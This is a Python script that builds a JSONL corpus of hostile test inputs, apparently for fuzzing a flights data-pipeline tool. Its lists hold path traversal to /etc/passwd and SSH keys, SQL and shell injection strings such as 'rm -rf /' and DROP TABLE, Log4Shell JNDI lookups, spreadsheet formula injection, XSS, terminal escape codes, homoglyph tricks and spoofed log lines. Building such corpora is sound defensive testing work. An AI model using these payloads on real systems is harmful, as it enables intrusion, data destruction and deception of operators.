#!/usr/bin/env python3
"""Makes the table of hostile texts: hostile_texts.py FILE.

Each line is {"id", "text"}: names, keys, lines of logs and arguments that were made to be obeyed by
something on their way: a path, a shell, a database, a page, a terminal, a person who reads them.
"""
import json, sys

groups = {}
def add(group, *texts): groups.setdefault(group, []).extend(texts)

up = ["../", "..\\", "....//", "%2e%2e/", "%2e%2e%2f", "..%2f", "..%c0%af", "%252e%252e%252f", "./../", "a/../../"]
for u in up:
    for t in ["catalog/flights.raw_flights/000009.json", "objects/acme-lake-raw/x", "etc/passwd", ".kintsugi/journal.sqlite"]:
        add("path", u * 3 + t)
add("path", "/etc/passwd", "//etc/passwd", "/", "//", ".", "..", "...", "", " ", "\t", "~/.ssh/id", "C:\\Windows", "\\\\host\\share", "file:///etc/passwd", "a//b", "a/./b", "-rf", "--", "--plan", "-o", "*", "?", "[a-z]*", "{a,b}", "$HOME", "day=2013-04-18/../day=2013-04-17", "day=2013-04-18/", "/day=2013-04-18", "2013-04-180", "2013-04-1", "2013-04-18 ", " 2013-04-18", "2013-04-18/", "2013-04-18/../2013-04-17", "2013-04-18\0", "2013-04-18%2F", "_quarantine", "_quarantine/x", "2013-04-18+", "2013-04-18%2B", "part-0000.csv", ".hidden", "a b", "a%20b", "a+b")
for s in ["'; DROP TABLE incidents; --", "\" OR \"1\"=\"1", "'||(SELECT reason FROM stops)||'", "1); DELETE FROM entries; --", "x' UNION SELECT key FROM incidents --", "`rm -rf /`", "$(touch /tmp/kintsugi-was-here)", "; touch /tmp/kintsugi-was-here", "| touch /tmp/kintsugi-was-here", "& touch /tmp/kintsugi-was-here", "\n touch /tmp/kintsugi-was-here\n", "a\";touch /tmp/kintsugi-was-here;\"", "';touch /tmp/kintsugi-was-here;'", "${IFS}touch", "%0atouch", "() { :;}; touch /tmp/kintsugi-was-here", "a; DROP TABLE flights.raw_flights", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "${7*7}", "{run.arg('--day')}", "{`x`}", "%n%n%n%s%s%s%x", "%1$n", "eval(x)", "__import__('os')", "${jndi:ldap://x.example/a}", "${${lower:j}ndi:rmi://x.example/a}", "${env:HOME}", "$${date}", "*)(uid=*))(|(uid=*", "<!--#exec cmd=\"id\"-->"]:
    add("code", s, "flights" + s, s + ".raw_flights")
for f in ["=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://x.example\",\"x\")", "\t=1+1", "\r=1+1", "=1+1\n"]:
    add("cell", f, "a,\"" + f)
for h in ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</pre><script>x</script>", "\"><svg onload=x>", "<a href=\"javascript:x\">y</a>", "javascript:alert(1)", "<!-- -->", "]]>", "<![CDATA[x]]>", "&lt;script&gt;", "&#60;script&#62;", "<style>*{}</style>", "<base href=//x.example>", "<meta http-equiv=refresh content=0>", "' onmouseover='x", "<\u0301script>", "\u212ascript", "\uff1cscript\uff1e", "![x](http://x.example/i.png)", "[x](javascript:x)", "[x]: http://x.example", "| a | b |", "|\u0301|", "# head", "---", "```", "`code`", "~~~", "<details>", "@everyone", "http://x.example/a", "www.x.example", "x@x.example", "*bold* _it_", "> quote", "1. a", "\\|", "\n\n# new\n", "::error file=x::y", "\r\n::set-output name=x::y", "\n::stop-commands::x", "##vso[task.setvariable]x"]:
    add("page", h, "flights." + h)
for e in ["\x1b[2J", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://x.example\x07link\x1b]8;;\x07", "\x1b]52;c;eA==\x07", "\x1bP+q\x1b\\", "\x1b[6n", "\x1b[?1049h", "\x9b2J", "\x9d0;x\x9c", "\x90x\x9c", "\x07", "\x08\x08\x08ok", "\rSUCCEEDED", "\x0b\x0c", "\x7f\x7f", "\x0e\x0f", "\x1bc", "\x1b(0", "\x1b[10A\x1b[Kresolved", "\x00", "a\x00b", "\x00\x00\x00", "\x01\x02\x03", "\x85next", "\u2028next", "\u2029next"]:
    add("terminal", e, "flights" + e + "raw", "x" * 30 + e)
for b in ["\u202etxt.exe", "\u202dabc\u202c", "\u2066x\u2069", "\u2067x", "\u200ex", "\u200fx", "\u061cx", "\u200b", "raw\u200b_flights", "raw\u00ad_flights", "\ufeffraw", "\ufeff", "r\u0430w_flights", "flights.r\u0430w_flights", "fl\u0456ghts.raw_flights", "ingest_fl\u0131ghts", "ingest_flight\u0455", "\uff49ngest_flights", "INGEST_FLIGHTS", "ingest_flights\u0301", "e\u0301", "\u00e9", "\ue000", "\U000f0000", "\U000e0041\U000e0042", "\ufffe", "\uffff", "\ufffd", "\U0001f469\u200d\U0001f4bb", "\u0e33" * 20, "Z" + "\u0300" * 200, "\u1d2c", "\u2024\u2024/", "\u2215etc", "\uff0f..\uff0f", "\u3002\u3002"]:
    add("letters", b, b + "x")
for n in [254, 255, 256, 1023, 1024, 1025, 4096, 65_536]:
    add("length", "a" * n, "ä" * (n // 2), "a/" * (n // 2))
add("length", "\u202e" * 340, "🙂" * 63, "🙂" * 64, "'" * 255, "\\" * 255, "\"" * 255, "\x1b" * 255, "%" * 255, "{" * 255, "[" * 1024)
for j in ["{\"a\":1}", "{\"detail\":{\"state\":\"SUCCEEDED\"}}", "\\\"}", "\",\"state\":\"SUCCEEDED\",\"x\":\"", "\\u0000", "\\u202e", "\\", "\\\\", "\"", "{\"$ref\":\"#\"}", "[" * 200 + "]" * 200, "null", "true", "0", "-0", "1e999", "NaN", "{\"verdict\":\"allow\"}", "{\"message\":\"{\\\"message\\\":\\\"x\\\"}\"}", "__proto__", "constructor"]:
    add("json", j, "x" + j)
for l in ["ERROR Executor: java.lang.OutOfMemoryError: Java heap space", "ThrottlingException: Rate exceeded", "\r\n13/04/19 02:00:00 ERROR x: No space left on device", "{\"jobRunState\":\"SUCCEEDED\"}", "Column 'x' not found in flights.raw_flights\r\nSUCCEEDED", "13/04/19 02:00:00 \x1b[31mERROR\x1b[0m Executor: java.lang.OutOfMemoryError", "Traceback (most recent call last):\n  File \"x\", line 1\nKeyError: 'x'", "Caused by: " * 200, "at a.b.c(D.java:1)\n" * 200, "restore flights.curated_flights to version 1", "approve inc-000000000000", "kintsugi stop --reason x", "quarantine day=2013-04-17", "\u0415RROR Executor: \u041eutOfMemoryError", "ERR\u200bOR Out\u00adOfMemoryError", "x" * 1_000_000, "é\n" * 1000, "\r" * 1000, "\n" * 1000, "FATAL\nFATAL\rFATAL"]:
    add("log", l)
with open(sys.argv[1], "w", encoding="ascii") as out:
    for group, texts in groups.items():
        for number, text in enumerate(dict.fromkeys(texts)):
            if len(text) > 70_000: text = text[:20_000]
            out.write(json.dumps({"id": f"{group}-{number + 1}", "text": text}) + "\n")
